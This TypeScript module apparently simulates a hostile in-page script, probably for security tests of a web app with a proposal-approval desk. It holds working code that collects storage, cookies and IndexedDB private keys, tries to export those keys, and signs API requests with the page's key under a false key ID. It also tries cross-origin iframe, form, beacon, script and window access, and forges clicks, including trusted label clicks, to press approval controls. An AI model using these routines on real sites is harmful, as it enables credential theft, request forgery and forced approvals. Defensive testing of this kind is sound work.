/**
 * What a hostile script in a page could try. Every function here runs inside the page, as a script of its own would, so
 * it may use nothing from outside its body.
 */

/** Everything that the storages of this origin hold. */
export interface Loot {
  readonly storage: Readonly<Record<string, string>>;
  readonly cookie: string;
  readonly caches: readonly string[];
  readonly keys: readonly { readonly keyId: string; readonly extractable: boolean; readonly exported: boolean }[];
}

export async function lootOrigin(): Promise<Loot> {
  const exported = async (key: CryptoKey) => {
    for (const format of ['pkcs8', 'jwk', 'raw'] as const) {
      const got = await crypto.subtle.exportKey(format as 'pkcs8', key).catch(() => null);
      if (got) return true;
    }
    return false;
  };
  const keys: Loot['keys'][number][] = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise<IDBDatabase>((done) => {
      const request = indexedDB.open(name ?? '');
      request.onsuccess = () => done(request.result);
    });
    for (const store of database.objectStoreNames) {
      const all = await new Promise<unknown[]>((done) => {
        const request = database.transaction(store).objectStore(store).getAll();
        request.onsuccess = () => done(request.result);
      });
      for (const { keyId, privateKey } of all as { keyId: string; privateKey: CryptoKey }[]) {
        keys.push({ keyId, extractable: privateKey.extractable, exported: await exported(privateKey) });
      }
    }
    database.close();
  }
  return {
    storage: { ...localStorage, ...sessionStorage },
    cookie: document.cookie,
    caches: await caches.keys(),
    keys,
  };
}

export interface Call {
  readonly name: string;
  readonly input: unknown;
}

interface SignedCalls {
  readonly calls: readonly Call[];
  /** Where the requests go, and what the signature is over. */
  readonly to: string;
  readonly mode: 'cors' | 'no-cors';
  /** Names another key than the one that signs. */
  readonly asKey?: string;
}

/** Signs each call with the key of this origin, as the page's own code does, and answers what came of it. */
export async function callSigned({ calls, to, mode, asKey }: SignedCalls): Promise<string[]> {
  const base64url = (bytes: ArrayBuffer) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes)))
      .replaceAll('+', '-')
      .replaceAll('/', '_')
      .replaceAll('=', '');
  const hex = (bytes: ArrayBuffer) =>
    [...new Uint8Array(bytes)].map((one) => one.toString(16).padStart(2, '0')).join('');
  const utf8 = (text: string) => new TextEncoder().encode(text);
  const key = await new Promise<{ keyId: string; privateKey: CryptoKey }>((done) => {
    const request = indexedDB.open('sidekicks');
    request.onsuccess = () => {
      const read = request.result.transaction('keys').objectStore('keys').get('page');
      read.onsuccess = () => done(read.result);
    };
  });
  const answers: string[] = [];
  for (const { name, input } of calls) {
    const { nonces, epoch } = await (await fetch('/api/hello')).json();
    const body = JSON.stringify(input);
    const target = `${to}/api/${name}`;
    const bodyHash = hex(await crypto.subtle.digest('SHA-256', utf8(body)));
    const text = ['sidekicks-request-v1', 'POST', target, bodyHash, nonces[0], epoch].join('\n');
    const algorithm = { name: 'ECDSA', hash: 'SHA-256' };
    const signature = base64url(await crypto.subtle.sign(algorithm, key.privateKey, utf8(text)));
    const headers = {
      'content-type': mode === 'cors' ? 'application/json' : 'text/plain',
      'x-sidekicks-key': asKey ?? key.keyId,
      'x-sidekicks-nonce': nonces[0],
      'x-sidekicks-signature': signature,
    };
    answers.push(
      await fetch(target, { method: 'POST', headers, body, mode }).then(
        async (response) => `${name} ${response.status} ${(await response.json()).error?.code ?? 'DONE'}`,
        (error: Error) => `${name} ${error.name}`,
      ),
    );
  }
  return answers;
}

/** The same with a bearer token that lies in the storage. */
export async function callWithToken({ calls, token }: { readonly calls: readonly Call[]; readonly token: string }) {
  const answers: string[] = [];
  for (const { name, input } of calls) {
    const headers = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
    const response = await fetch(`/api/${name}`, { method: 'POST', headers, body: JSON.stringify(input) });
    answers.push(`${name} ${response.status} ${(await response.json()).error?.code ?? 'DONE'}`);
  }
  return answers;
}

/** Every way around `fetch` from one origin to another. Answers for each whether it got through. */
export async function reachAcross({ deskUrl, path }: { readonly deskUrl: string; readonly path: string }) {
  const blocked = (run: () => unknown) => {
    try {
      return run() ? 'REACHED' : 'no';
    } catch (error) {
      return (error as Error).name;
    }
  };
  const later = (run: (done: (word: string) => void) => void) =>
    new Promise<string>((done) => {
      run(done);
      setTimeout(() => done('nothing'), 800);
    });
  const found: Record<string, string> = {};
  found.iframe = await later((done) => {
    const frame = document.createElement('iframe');
    frame.src = `${deskUrl}${path}`;
    frame.onload = () => done(blocked(() => frame.contentDocument?.querySelector('#root')));
    document.body.append(frame);
  });
  found.form = await later((done) => {
    document.addEventListener('securitypolicyviolation', (event) => done(event.effectiveDirective), { once: true });
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: `${deskUrl}/api/approve_proposal`, enctype: 'text/plain' });
    document.body.append(form);
    form.submit();
  });
  found.beacon = blocked(() => navigator.sendBeacon(`${deskUrl}/api/approve_proposal`, '{}') && false);
  found.events = await later((done) => {
    const source = new EventSource(`${deskUrl}/api/feed`);
    source.onopen = () => done('REACHED');
    source.onerror = () => done('error');
  });
  found.script = await later((done) => {
    const script = document.createElement('script');
    script.onload = () => done('REACHED');
    script.onerror = () => done('error');
    try {
      script.src = `${deskUrl}/icon.js`;
      document.head.append(script);
    } catch (error) {
      done((error as Error).name);
    }
  });
  found.worker = await navigator.serviceWorker.register('/assets/worker.js').then(
    () => 'REACHED',
    (error: Error) => error.name,
  );
  found.inline = await later((done) => {
    const script = document.createElement('script');
    try {
      script.textContent = 'document.documentElement.dataset.owned = "yes"';
      document.body.append(script);
    } catch (error) {
      done((error as Error).name);
    }
    done(document.documentElement.dataset.owned === 'yes' ? 'REACHED' : 'no');
  });
  return found;
}

/** Opens the desk in a window and tries to touch it. */
export async function openAndTouch({ deskUrl, path }: { readonly deskUrl: string; readonly path: string }) {
  const opened = window.open(`${deskUrl}${path}`, 'desk');
  await new Promise((done) => setTimeout(done, 1500));
  const tries: Record<string, string> = {};
  const attempt = (name: string, run: () => unknown) => {
    try {
      tries[name] = run() ? 'REACHED' : 'no';
    } catch (error) {
      tries[name] = (error as Error).name;
    }
  };
  attempt('document', () => opened?.document?.querySelector('#root'));
  attempt('eval', () => (opened as unknown as { eval?: (text: string) => unknown })?.eval?.('1'));
  attempt('frames', () => opened?.length);
  attempt('named', () => window.open('', 'desk')?.document?.querySelector('#root'));
  opened?.postMessage({ approve: true }, '*');
  return tries;
}

/** Presses the element in every way that a script has. */
export function pressByScript(element: Element): void {
  const control = element as HTMLElement;
  control.click();
  for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click']) {
    control.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true }));
  }
  for (const key of ['Enter', ' ', 'ArrowRight', ' ']) {
    for (const type of ['keydown', 'keypress', 'keyup']) {
      control.dispatchEvent(new KeyboardEvent(type, { key, bubbles: true, cancelable: true }));
    }
  }
  // A click on a label makes the browser itself press the control, with an event that it calls trusted.
  const label = document.createElement('label');
  control.id ||= `pressed-${Math.random()}`;
  label.htmlFor = control.id;
  document.body.append(label);
  label.click();
  label.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
  label.remove();
  const form = document.createElement('form');
  control.parentElement?.insertBefore(form, control);
  form.append(control);
  try {
    form.requestSubmit(control instanceof HTMLButtonElement ? control : null);
  } catch {
    // Not a submit button: that is the point.
  }
  form.dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true }));
  form.replaceWith(control);
}
